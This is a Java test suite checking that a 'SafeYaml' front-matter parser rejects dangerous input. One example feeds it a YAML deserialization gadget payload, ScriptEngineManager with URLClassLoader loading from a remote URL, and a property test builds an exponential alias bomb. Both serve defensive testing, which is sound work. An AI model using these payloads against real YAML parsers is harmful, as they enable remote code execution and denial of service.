package org.healthlib.core.yaml;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;
import org.healthlib.core.diagnostics.Diagnostic;
import org.healthlib.core.diagnostics.Diagnostics;
import org.healthlib.core.diagnostics.Position;

/** Whatever the text, composing it as YAML gives a map or located diagnostics, never an exception. */
class SafeYamlPropertiesTest {
    private static final Path FILE = Path.of("articles/x.md");

    @Provide
    Arbitrary<String> text() {
        return YamlText.anyText();
    }

    @Property(tries = 2_000)
    void anyTextGivesAMapOrDiagnosticsWithinTheText(@ForAll("text") String text, @ForAll @IntRange(min = 1, max = 50) int firstLine) {
        Diagnostics diagnostics = new Diagnostics();
        var map = SafeYaml.map(new YamlFile(FILE, firstLine, diagnostics), text, "front matter", Position.START);

        assertThat(map.isPresent() || diagnostics.hasErrors()).as("a map, or an error saying why not").isTrue();
        int lastLine = firstLine + YamlText.yamlLines(text) - 1;
        for (Diagnostic diagnostic : diagnostics.sorted()) {
            assertThat(diagnostic.file()).isEqualTo(FILE);
            assertThat(diagnostic.line()).as(diagnostic.toString()).isBetween(1, lastLine);
            assertThat(diagnostic.message()).isNotBlank().doesNotContain("Exception").doesNotContain("\tat ");
        }
    }

    /** Set when a {@link Tripwire} is made: it never should be. */
    static volatile boolean tripped;

    /** A class that a YAML tag names, to show that tags never make objects. */
    public static final class Tripwire {
        public Tripwire() {
            tripped = true;
        }
    }

    @Example
    void aTagNamingAJavaClassIsRefusedAtItsPlaceAndNeverMadeIntoAnObject() {
        Diagnostics diagnostics = new Diagnostics();
        String text = "title: !!org.healthlib.core.yaml.SafeYamlPropertiesTest$Tripwire {}\n"
                + "summary: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.9/\"]]]]\n";
        var map = SafeYaml.map(new YamlFile(FILE, 2, diagnostics), text, "front matter", Position.START);

        assertThat(map).isEmpty();
        assertThat(diagnostics.sorted()).singleElement().satisfies(diagnostic -> {
            assertThat(diagnostic.line()).isEqualTo(2);
            assertThat(diagnostic.column()).isEqualTo(8);
            assertThat(diagnostic.message()).startsWith("invalid YAML: Global tag is not allowed");
        });
        assertThat(tripped).isFalse();
    }

    @Property(tries = 200)
    void aliasBombsAndDeepNestingAreRefusedWithADiagnostic(@ForAll @IntRange(min = 11, max = 40) int copies,
                                                           @ForAll @IntRange(min = 21, max = 200) int depth) {
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        for (int level = 0; level < 6; level++) {
            String name = Character.toString('b' + level);
            String previous = Character.toString('a' + level);
            bomb.append(name).append(": &").append(name).append(" [")
                    .append(("*" + previous + ", ").repeat(copies)).append("*").append(previous).append("]\n");
        }
        Diagnostics diagnostics = new Diagnostics();
        assertThat(SafeYaml.map(new YamlFile(FILE, 2, diagnostics), bomb.toString(), "front matter", Position.START)).isEmpty();
        assertThat(diagnostics.sorted()).singleElement().extracting(Diagnostic::message)
                .isEqualTo("too many YAML aliases (at most " + SafeYaml.MAX_ALIASES + " aliases of lists or maps)");

        Diagnostics deep = new Diagnostics();
        String nested = "a: " + "[".repeat(depth) + "]".repeat(depth) + "\n";
        assertThat(SafeYaml.map(new YamlFile(FILE, 2, deep), nested, "front matter", Position.START)).isEmpty();
        assertThat(deep.sorted()).singleElement().extracting(Diagnostic::message)
                .isEqualTo("YAML is nested too deeply (at most " + SafeYaml.MAX_DEPTH + " levels)");
    }
}
